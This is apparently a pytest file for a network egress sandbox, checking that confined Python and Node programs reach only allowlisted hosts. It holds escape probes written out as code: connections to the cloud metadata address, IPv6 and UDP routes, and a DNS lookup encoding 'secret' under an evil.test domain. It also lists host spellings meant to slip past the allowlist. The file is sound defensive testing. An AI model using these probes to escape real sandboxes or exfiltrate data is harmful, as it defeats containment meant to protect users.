"""Real programs in a network of their own: they reach what is listed without any settings, and nothing else."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.confine.egress.world import Host, certificate, inside, no_namespaces, serving

pytestmark = pytest.mark.skipif(bool(no_namespaces()), reason=f"no namespaces on this machine: {no_namespaces()}")

NODE = shutil.which("node")
with_node = pytest.mark.skipif(NODE is None, reason="node is not installed")

PYTHON = {
    "urllib": "import sys, urllib.request as u\nprint(u.urlopen(sys.argv[1], timeout=10).read().decode())",
    "requests": "import sys, requests\nprint(requests.get(sys.argv[1], timeout=10).text)",
    "httpx": "import sys, httpx\nprint(httpx.get(sys.argv[1], timeout=10).text)",
    "httpx, async": "import sys, httpx, asyncio\nasync def main():\n"
    "    async with httpx.AsyncClient(timeout=10) as client:\n"
    "        print((await client.get(sys.argv[1])).text)\nasyncio.run(main())",
    "a socket": "import sys, socket, urllib.parse as p\nurl = p.urlsplit(sys.argv[1])\n"
    "with socket.create_connection((url.hostname, url.port), 10) as s:\n"
    "    s.sendall(b'GET / HTTP/1.0\\r\\nHost: ' + url.netloc.encode() + b'\\r\\n\\r\\n')\n"
    "    print(b''.join(iter(lambda: s.recv(999), b'')).decode())",
}
NODE_PROGRAMS = {
    "fetch": "fetch(process.argv[1]).then(r => r.text()).then(console.log, e => console.log(String(e.cause ?? e)))",
    "http": "const url = process.argv[1]; require(url.startsWith('https') ? 'https' : 'http')"
    ".get(url, r => r.on('data', d => console.log(String(d)))).on('error', e => console.log(String(e)))",
    "net": "const url = new URL(process.argv[1]); const s = require('net').connect(Number(url.port), url.hostname, "
    "() => s.write(`GET / HTTP/1.0\\r\\nHost: ${url.host}\\r\\n\\r\\n`)); "
    "s.on('data', d => console.log(String(d))).on('error', e => console.log(String(e)))",
}
ATTEMPTS = """
import errno, json, socket, sys
port, real = int(sys.argv[1]), sys.argv[2]
def attempt(do):
    try:
        return str(do())
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
def connect(family, kind, proto, where):
    with socket.socket(family, kind, proto) as sock:
        sock.settimeout(5)
        sock.connect(where)
        sock.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        return sock.recv(9).decode() or "nothing"
def fast(where):
    with socket.socket() as sock:
        sock.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", 0x20000000, where)
        return sock.recv(9).decode() or "nothing"
def datagram(where):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.3)
        sock.sendto(b"x", where)
        return sock.recv(9)
TCP = (socket.AF_INET, socket.SOCK_STREAM, 0)
print(json.dumps({
    "loopback": attempt(lambda: connect(*TCP, ("127.0.0.1", port))),
    "fast open": attempt(lambda: fast(("127.0.0.1", port))),
    "multipath": attempt(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 262, ("127.0.0.1", port))),
    "own address of the host": attempt(lambda: connect(*TCP, (real, port))),
    "another made-up address": attempt(lambda: connect(*TCP, ("11.127.9.9", port))),
    "internet": attempt(lambda: connect(*TCP, ("1.1.1.1", 443))),
    "metadata": attempt(lambda: connect(*TCP, ("169.254.169.254", 80))),
    "IPv6 loopback": attempt(lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, 0, ("::1", port))),
    "IPv6": attempt(lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, 0, ("2606:4700::1111", 443))),
    "datagram": attempt(lambda: datagram(("1.1.1.1", 53))),
    "abstract": attempt(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, 0, "\\0" + sys.argv[3])),
    "name": attempt(lambda: socket.gethostbyname("c2VjcmV0.evil.test")),
}))
"""


@pytest.fixture(scope="module")
def pem(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return certificate(tmp_path_factory.mktemp("tls"), "a.test", "b.test")


@pytest.fixture(params=["http", "https"])
def served(request: pytest.FixtureRequest, pem: Path) -> Iterator[tuple[str, Host]]:
    """The scheme and a host that speaks it."""
    with serving(pem if request.param == "https" else None) as host:
        yield request.param, host


def trusting(pem: Path) -> dict[str, str]:
    names = ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS")
    return dict.fromkeys(names, str(pem))


def listing(host: Host) -> list[str]:
    return [f"a.test:{host.port}!private"]


@pytest.mark.parametrize("program", PYTHON.values(), ids=PYTHON)
async def test_python_reaches_a_listed_host_and_no_other(program: str, served: tuple[str, Host], pem: Path) -> None:
    scheme, host = served
    if scheme == "https" and "socket" in program:
        return  # it speaks no TLS
    async with inside(listing(host), a_test="127.0.0.1", b_test="127.0.0.1") as plugin:
        assert (await plugin.python(program, f"{scheme}://a.test:{host.port}/x", **trusting(pem))).endswith("here")
        before = host.connections
    async with inside(listing(host), a_test="127.0.0.1", b_test="127.0.0.1") as plugin:
        said = await plugin.python(program, f"{scheme}://b.test:{host.port}/x", **trusting(pem))
    assert not said.endswith("here") and "rror" in said and host.connections == before
    assert plugin.looked_up == [] and {denied.host for denied in plugin.told} == {"b.test"}
    assert plugin.told[0].command == "broker grant todos net:b.test"


@with_node
@pytest.mark.parametrize("program", NODE_PROGRAMS.values(), ids=NODE_PROGRAMS)
async def test_node_reaches_a_listed_host_and_no_other(program: str, served: tuple[str, Host], pem: Path) -> None:
    scheme, host = served
    if scheme == "https" and "'net'" in program:
        return  # it speaks no TLS
    assert NODE is not None
    for name in ("a.test", "b.test"):
        async with inside(listing(host), a_test="127.0.0.1", b_test="127.0.0.1") as plugin:
            said = await plugin.run([NODE, "-e", program, f"{scheme}://{name}:{host.port}/x"], **trusting(pem))
            assert said.endswith("here") == (name == "a.test"), said
    assert "ENOTFOUND" in said and host.connections == 1 and plugin.looked_up == []


async def test_nothing_else_leads_out() -> None:
    abstract = f"egress-test-{os.getpid()}"
    with serving() as host, socket.socket(socket.AF_UNIX) as unix:
        unix.bind("\0" + abstract)
        unix.listen()
        async with inside(listing(host), a_test="127.0.0.1") as plugin:
            said = json.loads(await plugin.python(ATTEMPTS, str(host.port), own_address(), abstract))
        assert host.connections == 0 and plugin.looked_up == []
    reset = {said.pop(name) for name in ("loopback", "fast open", "multipath", "another made-up address")}
    assert reset <= {"ECONNRESET", "ECONNREFUSED"}
    assert said.pop("name") == "gaierror"
    assert set(said.values()) <= {"ENETUNREACH", "ECONNREFUSED", "EADDRNOTAVAIL", "EHOSTUNREACH"}, said


async def test_a_name_that_leads_to_a_private_address_is_refused() -> None:
    with serving() as host:
        async with inside(
            [f"a.test:{host.port}"], a_test=["127.0.0.1", "::ffff:127.0.0.1", "64:ff9b::7f00:1"]
        ) as plugin:
            said = await plugin.python(PYTHON["urllib"], f"http://a.test:{host.port}/")
    assert "ConnectionResetError" in said and host.connections == 0
    assert [denied.permission for denied in plugin.told] == [f"net:a.test:{host.port}!private"]


async def test_an_address_that_is_written_down_is_reached_as_it_is() -> None:
    with serving() as host:
        async with inside([f"127.0.0.1:{host.port}"]) as plugin:
            assert await plugin.python(PYTHON["urllib"], f"http://127.0.0.1:{host.port}/") == "here"


async def test_an_address_outside_the_loopback_is_reached_as_it_is() -> None:
    address = own_address()
    with serving(address=address) as host:
        async with inside([f"{address}:{host.port}"]) as plugin:
            assert await plugin.python(PYTHON["urllib"], f"http://{address}:{host.port}/") == "here"


async def test_a_service_on_localhost_is_reached_by_that_name() -> None:
    with serving() as host:
        async with inside([f"localhost:{host.port}"]) as plugin:
            assert await plugin.python(PYTHON["urllib"], f"http://localhost:{host.port}/") == "here"


async def test_a_wildcard_names_what_is_below_it() -> None:
    with serving() as host:
        async with inside([f"*.a.test:{host.port}!private"], x_a_test="127.0.0.1") as plugin:
            assert await plugin.python(PYTHON["urllib"], f"http://X.a.test.:{host.port}/") == "here"


async def test_a_range_is_reached_through_the_proxy() -> None:
    with serving() as host:
        async with inside(["a.test:*!private"], a_test="127.0.0.1") as plugin:
            proxy = "http://127.0.0.1:3128"
            assert await plugin.python(PYTHON["urllib"], f"http://a.test:{host.port}/", http_proxy=proxy) == "here"


@pytest.mark.parametrize(
    "name", ["A.TEST", "a.test.", "ａ.test", "2130706433", "0x7f.1", "127.1", "b.test\\@a.test", "a.test.evil.com"]
)
async def test_odd_spellings_of_a_host_lead_to_it_or_nowhere(name: str) -> None:
    same = name in ("A.TEST", "a.test.", "ａ.test")
    with serving() as host:
        async with inside(listing(host), a_test="127.0.0.1") as plugin:
            program = (
                "import socket, sys\ntry:\n    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)\n"
            )
            program += "    s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n    print(s.recv(999)[:8].decode())\n"
            program += "except OSError as error:\n    print(type(error).__name__)"
            said = await plugin.python(program, name, str(host.port))
    assert (said == "HTTP/1.0" or said == "HTTP/1.1") == same and host.connections == same, said


def own_address() -> str:
    """An address of this machine outside the loopback, if it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.2"
        return sock.getsockname()[0]
